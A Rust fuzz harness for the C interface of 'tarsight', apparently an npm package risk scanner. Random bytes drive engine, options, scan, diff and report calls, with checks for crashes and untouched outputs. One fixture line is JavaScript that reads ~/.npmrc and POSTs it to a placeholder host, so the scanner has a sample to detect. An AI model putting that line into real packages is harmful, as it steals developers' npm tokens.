//! Random calls of the C interface: bytes choose the functions and their arguments.
//!
//! A handle is used until it is freed, or NULL; everything else may be anything. Whatever the
//! calls are, none may crash, and what a failed call was to write to stays untouched.

use std::ffi::CString;
use std::ptr::{null, null_mut};

use tarsight_capi::*;

/// Handles of one kind that a sequence holds at once.
const SLOTS: usize = 3;
/// Calls of one sequence.
const CALLS: usize = 200;

/// Performs the calls that the bytes stand for, and frees what is left.
pub(crate) fn run(data: &[u8]) {
    let mut calls = Calls::new(data);
    for _ in 0..CALLS {
        let Some(which) = calls.byte() else { break };
        calls.call(which);
    }
}

struct Calls<'d> {
    data: &'d [u8],
    inputs: [Vec<u8>; 5],
    engines: [*mut tarsight_engine; SLOTS],
    options: [*mut tarsight_options; SLOTS],
    cancels: [*mut tarsight_cancel; SLOTS],
    reports: [*mut tarsight_report; SLOTS],
    diffs: [*mut tarsight_diff; SLOTS],
    errors: [*mut tarsight_error; SLOTS],
}

impl<'d> Calls<'d> {
    fn new(data: &'d [u8]) -> Self {
        let package = |code: &str| {
            let manifest = r#"{"name":"a","version":"1.0.0","main":"a.js"}"#;
            let files = tarsight_tests::package(manifest, "a.js", code.as_bytes());
            tarsight_tests::tgz(&files)
        };
        let sent = "const fs = require('fs');\nfetch('https://a.invalid/', { method: 'POST', body: fs.readFileSync(require('os').homedir() + '/.npmrc') });\n";
        let saved = tarsight::Report::default().to_json().into_bytes();
        Self {
            data,
            inputs: [
                package("exports.a = 1;\n"),
                package(sent),
                saved,
                b"no archive".to_vec(),
                Vec::new(),
            ],
            engines: [null_mut(); SLOTS],
            options: [null_mut(); SLOTS],
            cancels: [null_mut(); SLOTS],
            reports: [null_mut(); SLOTS],
            diffs: [null_mut(); SLOTS],
            errors: [null_mut(); SLOTS],
        }
    }

    fn byte(&mut self) -> Option<u8> {
        let (&first, rest) = self.data.split_first()?;
        self.data = rest;
        Some(first)
    }

    fn number(&mut self, below: usize) -> usize {
        usize::from(self.byte().unwrap_or_default()) % below
    }

    fn slot(&mut self) -> usize {
        self.number(SLOTS)
    }

    /// A text that may be a limit's name, or not even UTF-8.
    fn text(&mut self) -> CString {
        let names = tarsight::Limits::NAMES;
        let at = self.number(2 * names.len());
        let text = match names.get(at) {
            Some(name) => name.as_bytes().to_vec(),
            None => {
                let length = at.min(self.data.len());
                let (text, rest) = self.data.split_at(length);
                self.data = rest;
                text.iter().copied().filter(|&byte| byte != 0).collect()
            }
        };
        CString::new(text).unwrap_or_default()
    }

    /// Bytes of a package: one of ours, whatever comes, or nowhere.
    fn input(&mut self) -> (*const u8, usize) {
        let at = self.number(self.inputs.len() + 2);
        match self.inputs.get(at) {
            Some(input) => (input.as_ptr(), input.len()),
            None if at == self.inputs.len() => (self.data.as_ptr(), self.data.len()),
            None => (null(), self.number(3)),
        }
    }

    fn call(&mut self, which: u8) {
        match which % 12 {
            0 => self.set_up(),
            1 => self.set_option(),
            2..=4 => self.scan(),
            5 => self.compare(),
            6 | 7 => self.look(),
            8 => self.look_at_diff(),
            9 => self.look_at_error(),
            10 => self.load(),
            _ => self.free(),
        }
    }

    fn set_up(&mut self) {
        let at = self.slot();
        // SAFETY: the handles are live or NULL, and the places are ours.
        unsafe {
            match self.number(4) {
                0 if self.options[at].is_null() => {
                    tarsight_options_new(&raw mut self.options[at]);
                }
                1 if self.cancels[at].is_null() => {
                    tarsight_cancel_new(&raw mut self.cancels[at]);
                }
                2 if self.engines[at].is_null() => {
                    let options = self.options[self.slot()];
                    // Threads for each core would only cost time.
                    tarsight_options_set_jobs(options, 1);
                    tarsight_engine_new(options, &raw mut self.engines[at], null_mut());
                }
                _ => {
                    tarsight_options_new(null_mut());
                    tarsight_cancel_new(null_mut());
                    tarsight_engine_new(null(), null_mut(), null_mut());
                }
            }
        }
    }

    fn set_option(&mut self) {
        let options = self.options[self.slot()];
        let text = self.text();
        let value = u64::from(self.byte().unwrap_or_default()) << self.number(60);
        let error = self.error_place();
        // SAFETY: the handles are live or NULL, the text ends with a zero byte.
        unsafe {
            match self.number(5) {
                0 => {
                    let cancel = self.cancels[self.slot()];
                    tarsight_options_set_cancel(options, cancel);
                    if self.number(4) == 0 {
                        tarsight_cancel_now(cancel);
                    }
                }
                1 => {
                    tarsight_options_set_label(options, text.as_ptr());
                }
                2 => {
                    tarsight_options_set_time_limit(options, value);
                }
                3 => {
                    tarsight_options_set_label(options, null());
                    tarsight_options_set_limit(options, null(), value, error);
                }
                _ => {
                    tarsight_options_set_limit(options, text.as_ptr(), value, error);
                }
            }
        }
    }

    fn scan(&mut self) {
        let (engine, options) = (self.engines[self.slot()], self.options[self.slot()]);
        let (data, len) = self.input();
        let at = self.slot();
        self.free_report(at);
        let untouched = self.untouched::<tarsight_report>();
        let mut out = untouched;
        let error = self.error_place();
        // SAFETY: the handles are live or NULL, the bytes are there.
        let result =
            unsafe { tarsight_engine_scan(engine, data, len, options, &raw mut out, error) };
        match result {
            tarsight_result::Ok => self.reports[at] = out,
            _ => assert_eq!(out, untouched, "a failed scan wrote a report"),
        }
    }

    fn compare(&mut self) {
        let (engine, options) = (self.engines[self.slot()], self.options[self.slot()]);
        let at = self.slot();
        self.free_diff(at);
        let untouched = self.untouched::<tarsight_diff>();
        let mut out = untouched;
        // SAFETY: the handles are live or NULL, the bytes are there.
        let result = unsafe {
            if self.number(2) == 0 {
                let (old, new) = (self.reports[self.slot()], self.reports[self.slot()]);
                tarsight_diff_reports(old, new, &raw mut out)
            } else {
                let (old, old_len) = self.input();
                let (new, new_len) = self.input();
                let error = self.error_place();
                tarsight_engine_diff(
                    engine,
                    old,
                    old_len,
                    new,
                    new_len,
                    options,
                    &raw mut out,
                    error,
                )
            }
        };
        match result {
            tarsight_result::Ok => self.diffs[at] = out,
            _ => assert_eq!(out, untouched, "a failed comparison wrote a diff"),
        }
    }

    fn load(&mut self) {
        let at = self.slot();
        let (data, len) = self.input();
        self.free_report(at);
        let error = self.error_place();
        // SAFETY: the bytes are there, the place is ours and free.
        unsafe { tarsight_report_from_json(data, len, &raw mut self.reports[at], error) };
    }

    fn look(&mut self) {
        let report = self.reports[self.slot()];
        let (index, second) = (self.number(9), self.number(9));
        // SAFETY: the handle is live or NULL; the structs are written before they are read.
        unsafe {
            check(tarsight_report_json(report));
            tarsight_report_risk_level(report);
            assert!(tarsight_report_risk_score(report) <= 100);
            tarsight_report_is_complete(report);
            tarsight_report_file_count(report);
            // All zeros is a site and a behaviour: NULL, 0, NONE. No confidence is 0.
            let mut site: tarsight_site = std::mem::zeroed();
            let mut finding = std::mem::MaybeUninit::<tarsight_finding>::uninit();
            let result = tarsight_report_finding(report, index, finding.as_mut_ptr());
            let there = index < tarsight_report_finding_count(report);
            assert_eq!(there, result == tarsight_result::Ok);
            if there {
                check(finding.assume_init().message);
            }
            tarsight_report_finding_site(report, index, second, &raw mut site);
            let mut behaviour: tarsight_behaviour = std::mem::zeroed();
            let result = tarsight_report_behaviour(report, index, &raw mut behaviour);
            let there = index < tarsight_report_behaviour_count(report);
            assert_eq!(there, result == tarsight_result::Ok);
            check(behaviour.target);
            let result = tarsight_report_behaviour_site(report, index, second, &raw mut site);
            assert_eq!(second < behaviour.site_count, result == tarsight_result::Ok);
            check(site.excerpt);
        }
    }

    fn look_at_diff(&mut self) {
        let diff = self.diffs[self.slot()];
        // SAFETY: the handle is live or NULL.
        unsafe {
            check(tarsight_diff_json(diff));
            tarsight_diff_risk_level(diff);
            assert!(tarsight_diff_risk_score(diff) <= 100);
            tarsight_diff_is_complete(diff);
            tarsight_diff_gained_count(diff);
            tarsight_diff_lost_count(diff);
            tarsight_diff_changed_count(diff);
        }
    }

    fn look_at_error(&mut self) {
        let error = self.errors[self.slot()];
        // SAFETY: the handle is live or NULL.
        unsafe {
            check(tarsight_error_message(error));
            check(tarsight_error_code(error));
        }
    }

    fn free(&mut self) {
        let at = self.slot();
        // SAFETY: each handle is live or NULL, and forgotten here.
        unsafe {
            match self.number(6) {
                0 => tarsight_engine_free(std::mem::replace(&mut self.engines[at], null_mut())),
                1 => tarsight_options_free(std::mem::replace(&mut self.options[at], null_mut())),
                2 => tarsight_cancel_free(std::mem::replace(&mut self.cancels[at], null_mut())),
                3 => self.free_report(at),
                4 => self.free_diff(at),
                _ => tarsight_error_free(std::mem::replace(&mut self.errors[at], null_mut())),
            }
        }
    }

    fn free_report(&mut self, at: usize) {
        // SAFETY: live or NULL, and forgotten here.
        unsafe { tarsight_report_free(std::mem::replace(&mut self.reports[at], null_mut())) };
    }

    fn free_diff(&mut self, at: usize) {
        // SAFETY: live or NULL, and forgotten here.
        unsafe { tarsight_diff_free(std::mem::replace(&mut self.diffs[at], null_mut())) };
    }

    /// An empty place for an error, or none.
    fn error_place(&mut self) -> *mut *mut tarsight_error {
        if self.number(3) == 0 {
            return null_mut();
        }
        let at = self.slot();
        // SAFETY: live or NULL, and forgotten here.
        unsafe { tarsight_error_free(std::mem::replace(&mut self.errors[at], null_mut())) };
        &raw mut self.errors[at]
    }

    /// A pointer that no call makes.
    fn untouched<T>(&self) -> *mut T {
        self.inputs.as_ptr().cast_mut().cast()
    }
}

impl Drop for Calls<'_> {
    fn drop(&mut self) {
        for at in 0..SLOTS {
            self.free_report(at);
            self.free_diff(at);
            // SAFETY: each handle is live or NULL, and not used again.
            unsafe {
                tarsight_engine_free(self.engines[at]);
                tarsight_options_free(self.options[at]);
                tarsight_cancel_free(self.cancels[at]);
                tarsight_error_free(self.errors[at]);
            }
        }
    }
}

/// A view is readable from end to end and is UTF-8.
fn check(view: tarsight_str) {
    if view.data.is_null() {
        assert_eq!(view.len, 0, "no text has a length");
        return;
    }
    // SAFETY: the library says so, and the fuzzer's sanitizer checks it.
    let bytes = unsafe { std::slice::from_raw_parts(view.data.cast::<u8>(), view.len) };
    assert!(std::str::from_utf8(bytes).is_ok(), "a view is not UTF-8");
}
